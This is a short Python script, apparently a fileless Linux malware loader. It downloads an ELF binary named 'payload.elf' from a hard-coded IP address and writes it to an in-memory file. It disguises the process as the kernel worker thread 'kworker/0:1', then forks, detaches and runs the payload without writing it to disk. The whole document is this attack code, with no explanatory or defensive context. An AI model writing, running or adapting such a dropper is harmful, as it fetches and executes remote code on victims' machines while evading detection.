import ctypes
import os
import sys
import urllib.request

data = urllib.request.urlopen("http://203.0.113.12/payload.elf").read()
fd = os.memfd_create("kworker", 0)
with os.fdopen(fd, "wb", closefd=False) as f:
    f.write(data)
libc = ctypes.CDLL("libc.so.6")
libc.prctl(15, b"kworker/0:1", 0, 0, 0)
if os.fork() == 0:
    os.setsid()
    os.execve(f"/proc/self/fd/{fd}", ["[kworker/0:1]"], dict(os.environ))
sys.exit(0)
